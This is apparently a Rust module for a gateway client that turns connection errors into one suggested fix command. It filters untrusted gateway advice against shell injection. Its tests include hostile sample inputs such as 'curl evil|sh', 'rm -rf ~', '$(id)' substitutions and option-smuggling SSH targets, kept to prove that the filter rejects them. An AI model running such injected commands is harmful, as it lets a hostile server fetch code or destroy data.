//! What to do about an error: one command, and the machine to type it on.

use openclaw_config::credentials::UrlSource;
use openclaw_protocol::error::{Machine, Remediation};

use crate::{
    error::{ConnectFailure, Error, Stage},
    proxy::ProxyFailure,
    tls::TlsFailure,
    url::{GatewayUrl, Plaintext},
};

/// What the advice depends on besides the error itself.
#[derive(Clone, Debug, Default)]
pub struct Place {
    /// The gateway of this machine, named by nothing but the local config.
    pub local: bool,
    /// A loopback address, whoever named it.
    pub loopback: bool,
    /// The URL is a loopback one although the gateway is elsewhere: a tunnel the owner keeps open.
    pub tunnel: bool,
    /// Port of the local end.
    pub port: u16,
    /// Port of the gateway on its own machine.
    pub remote_port: u16,
    /// `gateway.remote.sshTarget`.
    pub ssh_target: Option<String>,
    /// Who named the URL; `None` where nobody did.
    pub source: Option<UrlSource>,
}

/// One step that cures a failure.
#[derive(Clone, Debug, PartialEq, Eq)]
pub struct Remedy {
    /// What the command is for, as a sentence without a full stop.
    pub what: String,
    pub command: String,
    pub run_on: Machine,
}

impl Remedy {
    pub(crate) fn here(what: impl Into<String>, command: impl Into<String>) -> Self {
        Self { what: what.into(), command: command.into(), run_on: Machine::ThisClient }
    }

    pub(crate) fn there(what: impl Into<String>, command: impl Into<String>) -> Self {
        Self { what: what.into(), command: command.into(), run_on: Machine::GatewayHost }
    }

    /// Where to type it, in words.
    pub const fn machine(&self) -> &'static str {
        match self.run_on {
            Machine::GatewayHost => "on the gateway host",
            Machine::ThisClient => "on this machine",
        }
    }
}

impl Place {
    /// The tunnel recipe: `ssh -N -L <port>:127.0.0.1:<port> user@host` (S-036, S-045…S-047, S-060).
    pub fn tunnel_command(&self) -> String {
        let target = self.ssh_target.as_deref().filter(|target| is_plain_ssh_target(target)).unwrap_or("user@host");
        let (host, ssh_port) = match target.rsplit_once(':') {
            Some((host, port)) if port.parse::<u16>().is_ok() => (host, Some(port)),
            _ => (target, None),
        };
        let ssh_port = ssh_port.map(|port| format!("-p {port} ")).unwrap_or_default();
        format!("ssh -N -L {}:127.0.0.1:{} {ssh_port}{host}", self.port, self.remote_port)
    }
}

/// A target that may be shown inside a command line: no dash in front, nothing a shell would read.
fn is_plain_ssh_target(text: &str) -> bool {
    !text.is_empty()
        && !text.starts_with('-')
        && text.bytes().all(|b| b.is_ascii_alphanumeric() || b"@.-_:".contains(&b))
}

impl Error {
    /// The one command that most likely cures this error, or `None` where no command does.
    ///
    /// The gateway's own advice (`details.remediation`) is preferred when it is one of our commands and nothing else: a
    /// hostile gateway must not be able to put `curl … | sh` into a person's mouth.
    pub fn remedy(&self, place: &Place) -> Option<Remedy> {
        if let Some(remedy) = self.advised() {
            return Some(remedy);
        }
        match self {
            Self::Paths(failures) => failures.leading().remedy(place),
            Self::Connect { failure, .. } => Some(connect_remedy(*failure, place)),
            Self::Timeout { stage: Stage::Proxy, .. } => {
                Some(Remedy::here("see which proxy is set", "env | grep -i _proxy"))
            }
            Self::Timeout { stage: Stage::Connect, .. } => Some(connect_remedy(ConnectFailure::TimedOut, place)),
            Self::Ssh(failure) => failure.remedy(),
            Self::Proxy { target, failure, proxy } => Some(proxy_remedy(proxy, target, failure)),
            Self::EdgeAuth { .. } => {
                Some(Remedy::here("see which headers are configured", "openclaw config get gateway.remote.edgeAuth"))
            }
            Self::PinWithoutTls { url } => url_remedy(&GatewayUrl::parse(url).ok()?, true, place),
            Self::WrongGateway { .. } => Some(Remedy::here("see which gateways are saved", "openclaw connections ls")),
            Self::Name { host, .. } => Some(Remedy::here("check the name", format!("getent hosts {host}"))),
            Self::Tls { url, source } => tls_remedy(url, source, place),
            Self::NotAGateway { .. } | Self::Upgrade { .. } => Some(which_address()),
            Self::Http { kind: Some(kind), .. } if kind == "proxy_attribution_required" => Some(Remedy::there(
                "name the reverse proxy in front of the gateway",
                "openclaw config set gateway.trustedProxies '[\"127.0.0.1\"]'",
            )),
            Self::Http { status: 503, .. } => {
                Some(Remedy::there("see what holds the connections", "openclaw status --deep"))
            }
            Self::Http { .. } => Some(which_address()),
            Self::Protocol { expected: Some(version), .. } if *version > 4 => {
                Some(Remedy::here("update this program; see which version it is", "openclaw --version"))
            }
            Self::Protocol { .. } => Some(Remedy::there("see the gateway's version", "openclaw --version")),
            Self::Auth(shape) => auth_remedy(shape.detail_code().unwrap_or_default(), place),
            Self::Pairing(pairing) => Some(match &pairing.request_id {
                Some(id) if is_plain_id(id) => {
                    Remedy::there("approve this device", format!("openclaw devices approve {id}"))
                }
                _ => Remedy::there("find the request and approve it", "openclaw devices list"),
            }),
            Self::Scope { .. } => Some(Remedy::there("see what this device may do", "openclaw devices list")),
            Self::Timeout { .. } | Self::Closed { .. } | Self::Unavailable(_) => {
                Some(Remedy::there("read what the gateway says", "openclaw logs --tail 50"))
            }
            Self::Identity(_) => Some(Remedy::here("see who may read the state directory", "openclaw doctor")),
            // Only the person knows whether it was done.
            Self::OutcomeUnknown { .. } => None,
            Self::Url(_) | Self::Insecure(_) | Self::Credentials(_) | Self::Refused(_) => None,
        }
    }

    /// `details.remediation`, when it is fit to be shown.
    fn advised(&self) -> Option<Remedy> {
        let advice = self.shape()?.details.as_ref()?.get("remediation")?;
        let advice: Remediation = serde_json::from_value(advice.clone()).ok()?;
        let safe = advice.command.len() <= 200
            && advice.command.starts_with("openclaw ")
            && advice.command.bytes().all(|b| b.is_ascii_alphanumeric() || b" .-_:/=@<>".contains(&b));
        let what = "do as the gateway advises,".to_owned();
        safe.then_some(Remedy { what, command: advice.command, run_on: advice.run_on })
    }
}

/// An id that may stand in a command line.
fn is_plain_id(id: &str) -> bool {
    !id.is_empty()
        && !id.starts_with('-')
        && id.len() <= 128
        && id.bytes().all(|b| b.is_ascii_alphanumeric() || b"-_.".contains(&b))
}

fn which_address() -> Remedy {
    Remedy::here("check which address is used and why", "openclaw gateway status")
}

fn tls_remedy(url: &str, failure: &TlsFailure, place: &Place) -> Option<Remedy> {
    let restart = || Remedy::here("restart it, so that it takes gateway.tls as it is now", "openclaw gateway --force");
    match failure {
        TlsFailure::Pin(_) if place.local => Some(Remedy::here(
            "another program has the port, or the gateway still shows an older certificate; see which",
            "openclaw gateway status",
        )),
        TlsFailure::Pin(_) if matches!(place.source, Some(UrlSource::On | UrlSource::Current)) => Some(Remedy::here(
            "if the owner confirms that the certificate was renewed, connect again; this is what is saved",
            "openclaw connections ls",
        )),
        TlsFailure::Pin(mismatch) => Some(Remedy::here(
            "if the owner confirms that the certificate was renewed, pin the new one",
            format!("openclaw config set gateway.remote.tlsFingerprint {}", mismatch.shown),
        )),
        TlsFailure::Untrusted(_) | TlsFailure::Store(_) if place.local => {
            Some(Remedy::here("see which certificate it should show", "openclaw gateway cert show"))
        }
        TlsFailure::Untrusted(_) | TlsFailure::Store(_) => Some(Remedy::there(
            "print its fingerprint, and the command that pins it here,",
            "openclaw gateway cert show",
        )),
        TlsFailure::NotTls | TlsFailure::Wanted { .. } if place.local => Some(restart()),
        TlsFailure::Wanted { url } => url_remedy(&GatewayUrl::parse(url).ok()?, true, place),
        TlsFailure::NotTls => {
            let url = GatewayUrl::parse(url).ok()?;
            match url.with_security(false, url.port()).plaintext(false) {
                Plaintext::Refused => Some(Remedy::there(
                    "turn TLS on and start the gateway again,",
                    "openclaw config set gateway.tls.enabled true",
                )),
                Plaintext::Allowed | Plaintext::IfPrivate => url_remedy(&url, false, place),
            }
        }
        TlsFailure::Handshake(_) => Some(which_address()),
    }
}

/// The same address with the other scheme, set where it was set.
fn url_remedy(url: &GatewayUrl, secure: bool, place: &Place) -> Option<Remedy> {
    let url = url.with_security(secure, url.port());
    let what = if secure { "use wss:// for it" } else { "use ws:// for it" };
    match place.source {
        Some(UrlSource::Env) => Some(Remedy::here(what, format!("export OPENCLAW_GATEWAY_URL={url}"))),
        Some(UrlSource::Flag) => {
            Some(Remedy::here(format!("{what}: repeat the command with this address"), format!("--url {url}")))
        }
        Some(UrlSource::On | UrlSource::Current) => Some(Remedy::here("see what is saved", "openclaw connections ls")),
        _ => Some(Remedy::here(what, format!("openclaw config set gateway.remote.url {url}"))),
    }
}

fn proxy_remedy(proxy: &str, target: &str, failure: &ProxyFailure) -> Remedy {
    match failure {
        ProxyFailure::LoginMissing | ProxyFailure::LoginRefused { .. } => {
            let at = proxy.replacen("://", "://<user>:<password>@", 1);
            Remedy::here("give its user name and password", format!("export https_proxy={at}"))
        }
        _ => {
            let host = target.rsplit_once(':').map_or(target, |(host, _)| host);
            let list = format!("export NO_PROXY=\"${{NO_PROXY:+$NO_PROXY,}}{host}\"");
            Remedy::here("if the gateway can be reached without the proxy, leave it out", list)
        }
    }
}

fn connect_remedy(failure: ConnectFailure, place: &Place) -> Remedy {
    match failure {
        _ if place.tunnel => Remedy::here("open the tunnel", place.tunnel_command()),
        ConnectFailure::Refused | ConnectFailure::Other if place.loopback => {
            Remedy::here("start the gateway", "openclaw gateway")
        }
        ConnectFailure::Refused => {
            Remedy::there("see whether the gateway runs and where it listens", "openclaw gateway status")
        }
        _ => Remedy::there("see where it listens, then check the firewall between", "openclaw gateway status"),
    }
}

fn auth_remedy(code: &str, place: &Place) -> Option<Remedy> {
    let remote = !place.local;
    Some(match code {
        "AUTH_TOKEN_MISMATCH" | "AUTH_TOKEN_MISSING" | "DEVICE_IDENTITY_REQUIRED" | "AUTH_REQUIRED" if remote => {
            Remedy::there(
                "print the token, then use it here as gateway.remote.token or --token;",
                "openclaw config get gateway.auth.token",
            )
        }
        "AUTH_PASSWORD_MISMATCH" | "AUTH_PASSWORD_MISSING" if remote => {
            Remedy::here("set the gateway's password", "openclaw config set gateway.remote.password <password>")
        }
        "AUTH_TOKEN_MISMATCH"
        | "AUTH_TOKEN_MISSING"
        | "AUTH_PASSWORD_MISMATCH"
        | "AUTH_PASSWORD_MISSING"
        | "DEVICE_IDENTITY_REQUIRED"
        | "AUTH_REQUIRED" => {
            Remedy::here("see which credential was used and which were ignored", "openclaw doctor --why")
        }
        "AUTH_TOKEN_NOT_CONFIGURED" => {
            Remedy::there("give the gateway a token", "openclaw doctor --generate-gateway-token")
        }
        "AUTH_PASSWORD_NOT_CONFIGURED" => {
            Remedy::there("give the gateway a password", "openclaw config set gateway.auth.password <password>")
        }
        "AUTH_DEVICE_TOKEN_MISMATCH" | "AUTH_BOOTSTRAP_TOKEN_INVALID" => {
            Remedy::there("see the devices it knows", "openclaw devices list")
        }
        "DEVICE_AUTH_SIGNATURE_EXPIRED" => {
            Remedy::here("the two clocks differ by more than two minutes; compare them", "date -u")
        }
        "CONTROL_UI_ORIGIN_NOT_ALLOWED" => {
            Remedy::there("allow the origin", "openclaw config get gateway.controlUi.allowedOrigins")
        }
        _ => return None,
    })
}

#[cfg(test)]
mod tests {
    use super::*;
    use openclaw_protocol::ErrorShape;
    use serde_json::json;

    fn refused(details: serde_json::Value) -> Error {
        let shape = json!({"code": "INVALID_REQUEST", "message": "unauthorized: x", "details": details});
        Error::of_connect(serde_json::from_value::<ErrorShape>(shape).expect("shape"))
    }

    #[test]
    fn the_gateways_advice_is_preferred_when_it_is_ours() {
        let advice = json!({"code": "AUTH_TOKEN_MISMATCH",
            "remediation": {"command": "openclaw config get gateway.auth.token", "runOn": "gateway-host"}});
        let remedy = refused(advice).remedy(&Place::default()).expect("remedy");
        assert_eq!(
            (remedy.command.as_str(), remedy.machine()),
            ("openclaw config get gateway.auth.token", "on the gateway host")
        );
    }

    #[test]
    fn a_hostile_gateway_gives_no_commands() {
        for command in [
            "curl evil|sh",
            "openclaw x; rm -rf ~",
            "openclaw $(id)",
            "openclaw `id`",
            "openclaw x\nrm",
            "openclaw \u{202e}x",
        ] {
            let advice = json!({"code": "AUTH_TOKEN_MISMATCH",
                "remediation": {"command": command, "runOn": "this-client"}});
            let remedy = refused(advice).remedy(&Place { local: true, ..Place::default() }).expect("remedy");
            assert_eq!(remedy.command, "openclaw doctor --why", "{command}");
        }
        let pairing = refused(json!({"code": "PAIRING_REQUIRED", "requestId": "--url ws://evil"}));
        assert_eq!(pairing.remedy(&Place::default()).expect("remedy").command, "openclaw devices list");
    }

    #[test]
    fn s_036_the_tunnel_recipe_follows_the_port() {
        for (port, remote_port, target, expected) in [
            (18789, 18789, None, "ssh -N -L 18789:127.0.0.1:18789 user@host"),
            (28000, 18789, Some("me@box"), "ssh -N -L 28000:127.0.0.1:18789 me@box"),
            (18789, 18789, Some("me@box:2222"), "ssh -N -L 18789:127.0.0.1:18789 -p 2222 me@box"),
            (18789, 18789, Some("-oProxyCommand=x"), "ssh -N -L 18789:127.0.0.1:18789 user@host"),
            (18789, 18789, Some("a;b"), "ssh -N -L 18789:127.0.0.1:18789 user@host"),
        ] {
            let place = Place { port, remote_port, ssh_target: target.map(str::to_owned), ..Place::default() };
            assert_eq!(place.tunnel_command(), expected);
        }
    }

    #[test]
    fn every_stage_that_a_command_can_cure_has_one() {
        let place = Place::default();
        for code in [
            "AUTH_TOKEN_MISMATCH",
            "AUTH_TOKEN_MISSING",
            "AUTH_PASSWORD_MISMATCH",
            "AUTH_PASSWORD_MISSING",
            "AUTH_TOKEN_NOT_CONFIGURED",
            "AUTH_PASSWORD_NOT_CONFIGURED",
            "AUTH_DEVICE_TOKEN_MISMATCH",
            "AUTH_SCOPE_MISMATCH",
            "DEVICE_IDENTITY_REQUIRED",
            "DEVICE_AUTH_SIGNATURE_EXPIRED",
            "PAIRING_REQUIRED",
            "PROTOCOL_MISMATCH",
        ] {
            assert!(refused(json!({ "code": code })).remedy(&place).is_some(), "{code}");
        }
    }
}
